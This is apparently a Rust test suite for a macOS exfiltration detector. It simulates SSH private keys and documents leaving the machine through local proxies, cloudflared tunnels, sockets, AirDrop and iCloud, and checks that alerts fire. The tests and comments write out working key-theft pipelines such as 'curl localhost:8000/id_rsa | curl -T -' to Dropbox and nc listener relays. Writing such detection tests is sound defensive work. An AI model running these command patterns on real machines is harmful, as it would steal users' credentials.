//! Data that goes through another process of the same Mac: proxies, tunnels, sockets, radios.

use super::world::*;

const KEY: &str = "/Users/alice/.ssh/id_rsa";
const DROPBOX: &str = "content.dropboxapi.com";
const X: Program = adhoc("/private/tmp/x", "x");
const PROXY: Program = vendor("/Applications/Proxy.app/Contents/MacOS/proxy", "com.proxy", "PROXY00000");

fn has(told: &Told, kind: &str) -> bool {
    told.coverage().iter().any(|record| record.kind.as_str() == kind)
}

/// What a process sends to a local port, and what the process there then sends on.
fn through_proxy(w: &mut World, at: f64, sends: usize, sent_on: usize) {
    let p = w.launch(0.0, X, &["x"]);
    let proxy = w.launch(0.1, PROXY, &["proxy"]);
    w.open(at, &p, KEY);
    let mut local = w.connect_local(at + 1.0, &p, &proxy, 8888);
    w.plain(at + 1.01, &mut local, true, &vec![0x5a; sends]);
    let mut next = w.connect(at + 1.05, &proxy, DROPBOX, true);
    let end = w.send(at + 1.2, &mut next, sent_on);
    w.close(end + 0.1, &mut next);
    w.close(end + 0.2, &mut local);
}

/// One connection in, one connection out, as many bytes: the place is the proxy's.
#[test]
fn n11_local_proxy_one_to_one() {
    let mut w = World::new();
    through_proxy(&mut w, 1.0, 30_000, 30_000);
    let told = w.tell();
    let alert = told.low();
    assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "second-hop"));
    assert_eq!(alert.service.as_deref(), Some("dropbox"));
    assert_eq!(alert.uploader.process().unwrap().info.program.path.to_string(), "/private/tmp/x");
}

/// It sends on something else: said, not guessed.
#[test]
fn n11_twin_other_bytes() {
    for (sends, sent_on) in [(300_000, 20_000), (5_000, 400_000)] {
        let mut w = World::new();
        through_proxy(&mut w, 1.0, sends, sent_on);
        let told = w.tell();
        told.none();
        assert!(has(&told, "proxy"), "{:?}", told.coverage());
    }
}

/// The proxy is asked for the place by name: that is where it goes.
#[test]
fn n11_connect_by_name() {
    let mut w = World::new();
    let p = w.launch(0.0, X, &["x"]);
    let proxy = w.launch(0.1, PROXY, &["proxy"]);
    w.open(1.0, &p, KEY);
    let mut local = w.connect_local(2.0, &p, &proxy, 8888);
    w.plain(2.01, &mut local, true, b"CONNECT content.dropboxapi.com:443 HTTP/1.1\r\nHost: x\r\n\r\n");
    w.plain(2.02, &mut local, false, b"HTTP/1.1 200 OK\r\n\r\n");
    w.plain(2.1, &mut local, true, &[0x5a; 30_000]);
    let mut next = w.connect(2.05, &proxy, DROPBOX, true);
    let end = w.send(2.2, &mut next, 30_000);
    w.close(end + 0.1, &mut next);
    w.close(end + 0.2, &mut local);
    let told = w.tell();
    let alert = told.low();
    assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "second-hop"));
    assert!(alert.bytes_out < 40_000, "{}", alert.bytes_out);
}

/// A key is small: what of it goes to a local port is said from where an upload of it would count, and not below.
#[test]
fn a_key_to_a_local_port_is_said() {
    const DOCUMENT: &str = "/Users/alice/Documents/plan.docx";
    for (read, bytes, passed_on, said) in [
        (Some(KEY), 600, 700, true),
        (Some(KEY), 200, 700, false),
        (Some(KEY), 600, 300, false),
        (Some(DOCUMENT), 600, 700, false),
        (None, 600, 700, false),
    ] {
        for listener_known in [true, false] {
            let mut w = World::new();
            let agent = w.launch(0.0, PROXY, &["proxy"]);
            let app = w.launch(0.1, X, &["x"]);
            let mut gateway = w.connect(0.5, &agent, "gateway.example", true);
            if let Some(path) = read {
                w.open(1.0, &app, path);
            }
            let mut local = match listener_known {
                true => w.connect_local(2.0, &app, &agent, 9000),
                false => w.connect_to_unknown(2.0, &app, 9000),
            };
            w.plain(2.1, &mut local, true, &vec![0x5a; bytes]);
            w.send(2.2, &mut gateway, passed_on);
            w.close(3.0, &mut local);
            let told = w.tell();
            told.none();
            let said = said || !listener_known && read == Some(KEY) && bytes >= 256;
            assert_eq!(has(&told, "proxy"), said, "{read:?} {bytes} {passed_on} {listener_known}");
        }
    }
}

/// Every app speaks to the company's agent, and the agent speaks to the world.
#[test]
fn b45_corporate_agent() {
    let mut w = World::new();
    let agent = vendor("/Applications/Zscaler/ZscalerTunnel", "com.zscaler.tunnel", "PCBCQZJ7S7");
    let agent = w.launch(0.0, agent, &["ZscalerTunnel"]);
    let mut locals = Vec::new();
    for n in 0..4u32 {
        let app = w.launch(0.1 + f64::from(n), X, &["x"]);
        if n == 1 {
            w.open(2.0, &app, "/Users/alice/Documents/corp/plan.docx");
        }
        locals.push(w.connect_local(5.0 + f64::from(n) * 0.01, &app, &agent, 9000));
    }
    for (n, local) in locals.iter_mut().enumerate() {
        w.plain(6.0 + n as f64 * 0.1, local, true, &[0x5a; 20_000]);
    }
    for n in 0..4 {
        w.upload(6.3 + f64::from(n) * 0.1, &agent, DROPBOX, 20_000);
    }
    let told = w.tell();
    told.none();
    assert!(has(&told, "proxy"), "{:?}", told.coverage());
}

/// B45 as the agent does it that sends everything to its own gateway, over a connection that was there before or a new one.
#[test]
fn b45_agent_with_a_gateway() {
    for (opened, reads, passes_on, said) in [
        (0.5, true, 33_000, true),
        (2.05, true, 33_000, true),
        (0.5, false, 33_000, false),
        (0.5, true, 2_000, false),
    ] {
        let mut w = World::new();
        let agent = vendor("/Applications/Zscaler/ZscalerTunnel", "com.zscaler.tunnel", "PCBCQZJ7S7");
        let agent = w.launch(0.0, agent, &["ZscalerTunnel"]);
        let app = w.launch(0.1, X, &["x"]);
        let mut gateway = w.connect(opened, &agent, "gateway.zscaler.net", true);
        if reads {
            w.open(1.0, &app, KEY);
        }
        let mut local = w.connect_local(2.0, &app, &agent, 9000);
        w.plain(2.1, &mut local, true, &[0x5a; 30_000]);
        w.send(2.2, &mut gateway, passes_on);
        w.close(3.0, &mut local);
        // Long after, and no more of it.
        w.send(60.0, &mut gateway, 90_000);
        let told = w.tell();
        told.none();
        assert_eq!(has(&told, "proxy"), said, "{opened} {reads} {passes_on}");
    }
}

fn tunnel(w: &mut World, local: bool, reads: bool) {
    let zsh = w.launch(0.0, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
    let python = adhoc("/opt/homebrew/bin/python3.12", "python3");
    let python = w.spawn(0.1, &zsh, python, &["python3", "-m", "http.server", "8000"]);
    let cloudflared = adhoc("/opt/homebrew/bin/cloudflared", "cloudflared");
    let cloudflared =
        w.spawn(0.2, &zsh, cloudflared, &["cloudflared", "tunnel", "--url", "http://localhost:8000"]);
    let mut out = w.connect(1.0, &cloudflared, "region1.v2.argotunnel.com", true);
    w.receive(10.0, &mut out, 500);
    if local {
        let mut asked = w.connect_local(10.1, &cloudflared, &python, 8000);
        w.plain(10.11, &mut asked, true, b"GET /id_rsa HTTP/1.1\r\n\r\n");
        w.plain(10.2, &mut asked, false, &[0x5a; 9_000]);
        w.close(10.5, &mut asked);
    }
    if reads {
        w.open(10.15, &python, KEY);
    }
    w.send(10.3, &mut out, 9_000);
}

/// A file server behind a tunnel: what it reads is fetched from outside.
#[test]
fn m31_tunnel() {
    for local in [true, false] {
        let mut w = World::new();
        tunnel(&mut w, local, true);
        let told = w.tell();
        let alert = told.low();
        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "tunnel"));
        assert_eq!(alert.category.as_deref(), Some("tunnel"));
        let mut w = World::new();
        tunnel(&mut w, local, false);
        w.tell().none();
    }
}

/// A daemon of root's reads; a user's process asks it for something by a socket and uploads.
#[test]
fn m44_across_users_by_a_socket() {
    for (asks, staged) in [(true, false), (false, false), (true, true)] {
        let mut w = World::new();
        let daemon = w.launch_as(0.0, 0, adhoc("/usr/local/libexec/evild", "evild"), &["evild"]);
        w.open(1.0, &daemon, KEY);
        if staged {
            w.write(1.5, &daemon, "/private/tmp/.s");
        }
        let p = w.launch(2.0, X, &["x"]);
        if asks {
            w.ask_socket(2.5, &p, "/private/var/run/evil.sock");
        }
        if staged {
            w.open(2.6, &p, "/private/tmp/.s");
        }
        w.upload(3.0, &p, DROPBOX, 30_000);
        let told = w.tell();
        if staged {
            told.one_of_any_confidence();
        } else {
            told.none();
            assert_eq!(has(&told, "ipc-possible"), asks);
        }
    }
}

/// A descriptor passed on by a socket: no sensor sees that.
#[test]
fn m45_passed_descriptor() {
    let mut w = World::new();
    let reader = w.launch(0.0, X, &["x"]);
    let sender = w.launch(0.1, adhoc("/private/tmp/y", "y"), &["y"]);
    w.open(1.0, &reader, KEY);
    w.ask_socket(1.5, &reader, "/private/tmp/y.sock");
    w.upload(3.0, &sender, DROPBOX, 30_000);
    let told = w.tell();
    told.none();
    assert!(has(&told, "ipc-possible"));
}

/// AirDrop goes over its own radio link.
#[test]
fn n22_airdrop_of_a_file() {
    let mut w = World::new();
    let finder = apple("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "com.apple.finder");
    let finder = w.launch(0.0, finder, &["Finder"]);
    w.open(1.0, &finder, "/Users/alice/Documents/corp/plan.docx");
    let sharingd = w.launch(0.1, apple("/usr/libexec/sharingd", "com.apple.sharingd"), &["sharingd"]);
    let mut conn = w.dial(&sharingd, "198.51.100.8", true);
    conn.interface = "awdl0";
    w.handshake(2.0, &mut conn, None);
    w.send(2.1, &mut conn, 300_000);
    let told = w.tell();
    told.none();
    assert!(has(&told, "airdrop"), "{:?}", told.coverage());
}

/// A certificate exported to the desktop, which iCloud then picks up: two harmless programs, one leak.
#[test]
fn b36_exported_certificate() {
    let mut w = World::new();
    let access = apple(
        "/System/Library/CoreServices/Applications/Keychain Access.app/Contents/MacOS/Keychain Access",
        "com.apple.keychainaccess",
    );
    let access = w.launch(0.0, access, &["Keychain Access"]);
    w.open(1.0, &access, "/Users/alice/Library/Keychains/login.keychain-db");
    w.write(2.0, &access, "/Users/alice/Desktop/cert.p12");
    let bird = apple(
        "/System/Library/PrivateFrameworks/CloudDocsDaemon.framework/Versions/A/Support/bird",
        "com.apple.bird",
    );
    let bird = w.launch(0.5, bird, &["bird"]);
    w.open(10.0, &bird, "/Users/alice/Desktop/cert.p12");
    w.upload(11.0, &bird, "p42-content.icloud.com", 9_000);
    let told = w.tell();
    assert!(told.low().reasons.iter().any(|reason| reason.code.as_str() == "second-hop"));
}

/// A server on this Mac; what it reads; and a program that fetches so much from it in so many requests, then sends so much.
fn fetched(reads: bool, fetched: usize, requests: usize, later: f64, sends: usize) -> Told {
    let mut w = World::new();
    let server = w.launch(0.0, adhoc("/private/tmp/serve", "serve"), &["serve"]);
    let other = w.launch(0.1, adhoc("/private/tmp/fetch", "fetch"), &["fetch"]);
    if reads {
        w.open(1.0, &server, KEY);
    }
    for n in 0..requests {
        let at = 1.5 + n as f64 * 0.01;
        let mut local = w.connect_local(at, &other, &server, 9222);
        w.plain(at + 0.1, &mut local, true, b"GET / HTTP/1.1\r\n\r\n");
        w.plain(at + 0.2, &mut local, false, &vec![b'x'; fetched]);
        w.close(2.0, &mut local);
    }
    w.upload(2.0 + later, &other, DROPBOX, sends);
    w.tell()
}

/// Fetched from a local port of the thief instead of sent there: as much as was fetched is sent on.
#[test]
fn fetched_from_a_local_port() {
    for bytes in [2_900, 30_000] {
        let told = fetched(true, bytes, 1, 0.5, bytes);
        let alert = told.low();
        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "second-hop"));
        assert_eq!(alert.reads[0].path.to_string(), KEY);
        assert_eq!(alert.uploader.process().unwrap().info.program.path.to_string(), "/private/tmp/serve");
    }
}

/// Something else is sent, or nothing sensitive is held, or it is long ago: said where it may be, not guessed.
#[test]
fn fetched_twins() {
    let table = [
        (fetched(false, 30_000, 1, 0.5, 30_000), false),
        (fetched(true, 30_000, 1, 60.0, 30_000), false),
        (fetched(true, 30_000, 1, 0.5, 9_000), true),
        (fetched(true, 5_000, 1, 0.5, 60_000), true),
        // A page of a developer's own server, in a browser.
        (fetched(true, 30_000, 3, 0.5, 30_000), true),
    ];
    for (told, said) in table {
        told.none();
        assert_eq!(has(&told, "proxy"), said, "{:?}", told.coverage());
    }
}

/// A backup in two parts: one reads, the other fetches it from there and may bring it where it does.
#[test]
fn fetched_by_who_may_send_it() {
    for tenant in ["corp-backup", "evil"] {
        let mut w = World::new();
        let reader = w.launch(0.0, adhoc("/opt/corp/indexer", "indexer"), &["indexer"]);
        let arq = "/Applications/Arq.app/Contents/MacOS/arqagent";
        let arq = vendor(arq, "com.haystacksoftware.arqagent", "48ZCSDVL96");
        let arq = w.launch(0.1, arq, &["arqagent"]);
        w.open(1.0, &reader, "/Users/alice/Documents/corp/plan.docx");
        let mut local = w.connect_local(1.5, &arq, &reader, 9222);
        w.plain(1.6, &mut local, false, &[b'x'; 30_000]);
        w.close(2.0, &mut local);
        w.upload(2.5, &arq, &format!("{tenant}.s3.amazonaws.com"), 30_000);
        second_hop_if(tenant == "evil", &w.tell());
    }
}

/// `curl localhost:8000/id_rsa | curl -T - ..`
#[test]
fn fetched_into_a_pipe() {
    for reads in [true, false] {
        let mut w = World::new();
        let python = adhoc("/opt/homebrew/bin/python3.12", "python3");
        let server = w.launch(0.0, python, &["python3", "-m", "http.server", "--bind", "127.0.0.1"]);
        let (fetch, send) = pipeline(&mut w, CURL, &["curl", "http://localhost:8000/id_rsa"]);
        let mut out = w.connect(1.1, &send, DROPBOX, true);
        w.send(1.2, &mut out, 700);
        let mut local = w.connect_local(1.15, &fetch, &server, 8000);
        w.plain(1.16, &mut local, true, b"GET /id_rsa HTTP/1.1\r\n\r\n");
        if reads {
            w.open(1.25, &server, KEY);
        }
        w.plain(1.3, &mut local, false, &[b'x'; 2_900]);
        w.close(1.4, &mut local);
        let end = w.send(1.5, &mut out, 2_700);
        w.close(end + 0.1, &mut out);
        second_hop_if(reads, &w.tell());
    }
}

const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
pub(super) const NC: Program = apple("/usr/bin/nc", "com.apple.nc");

/// A program whose output goes to `curl -T -`.
fn pipeline(w: &mut World, first: Program, args: &[&str]) -> (Proc, Proc) {
    let shell = w.launch(0.5, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
    let env = &["HOME=/Users/alice"];
    let (a, b) = (w.fork(1.0, &shell), w.fork(1.001, &shell));
    let first = w.exec_in(1.01, &a, first, args, "null", &[(1, 50)], env);
    let to = &["curl", "-T", "-", "https://content.dropboxapi.com/2/files/upload"];
    (first, w.exec_in(1.02, &b, CURL, to, "null", &[(0, 50)], env))
}

/// Another program sends what was written to `/private/tmp/out`, by its inode 4711.
pub(super) fn sends_out(mut w: World) -> Told {
    let curl = w.launch(30.0, CURL, &["curl", "-T", "/private/tmp/out", "https://content.dropboxapi.com/"]);
    w.open_inode(30.1, &curl, "/private/tmp/out", 4711);
    w.upload(30.5, &curl, DROPBOX, 5_000);
    w.tell()
}

#[track_caller]
pub(super) fn second_hop_if(low: bool, told: &Told) {
    if low {
        assert!(told.low().reasons.iter().any(|reason| reason.code.as_str() == "second-hop"));
    } else {
        told.none();
    }
}

/// `nc -l 9999 | curl -T - ..`, and elsewhere `nc localhost 9999 < key`: also where curl has waited for it for long.
#[test]
fn through_a_listener_and_its_pipe() {
    for (at, reads, sends) in
        [(3.0, true, 2_700), (300.0, true, 2_700), (3.0, false, 2_700), (3.0, true, 90_000)]
    {
        let mut w = World::new();
        let (listener, curl) = pipeline(&mut w, NC, &["nc", "-l", "9999"]);
        let mut out = w.connect(1.1, &curl, DROPBOX, true);
        w.send(1.2, &mut out, 700);
        let shell = w.launch(at, apple("/bin/zsh", "com.apple.zsh"), &["-zsh"]);
        let thief = w.fork(at + 0.1, &shell);
        if reads {
            w.open(at + 0.11, &thief, KEY);
        }
        let thief = w.exec(at + 0.12, &thief, NC, &["nc", "localhost", "9999"]);
        let mut local = w.connect_local(at + 0.2, &thief, &listener, 9999);
        w.plain(at + 0.21, &mut local, true, &[b'x'; 2_700]);
        w.close(at + 0.3, &mut local);
        let end = w.send(at + 0.31, &mut out, sends);
        w.close(end + 0.1, &mut out);
        second_hop_if(reads && sends < 10_000, &w.tell());
    }
}

/// `curl -o /tmp/x localhost:8000/id_rsa; curl -T /tmp/x ..`, or `nc -l 9999 > /tmp/x`: a file of the size that came.
#[test]
fn by_way_of_a_file() {
    for (listens, reads, came, same) in [
        (false, true, 4_300, true),
        (true, true, 4_096, true),
        (false, false, 4_300, false),
        // As much, but no secret; more; less.
        (true, false, 4_096, false),
        (false, true, 60_000, false),
        (true, true, 3_000, false),
    ] {
        let mut w = World::new();
        let thief = w.launch(0.0, adhoc("/private/tmp/x", "x"), &["x"]);
        let other = w.launch(0.1, if listens { NC } else { CURL }, &["y"]);
        if reads {
            w.open(1.0, &thief, KEY);
        }
        let (client, server) = if listens { (&thief, &other) } else { (&other, &thief) };
        let mut local = w.connect_local(1.5, client, server, 9222);
        w.plain(1.6, &mut local, listens, &vec![b'x'; came]);
        w.close(1.8, &mut local);
        // 4,096 bytes
        w.write_inode(1.9, &other, "/private/tmp/out", 4711);
        second_hop_if(same, &sends_out(w));
    }
}
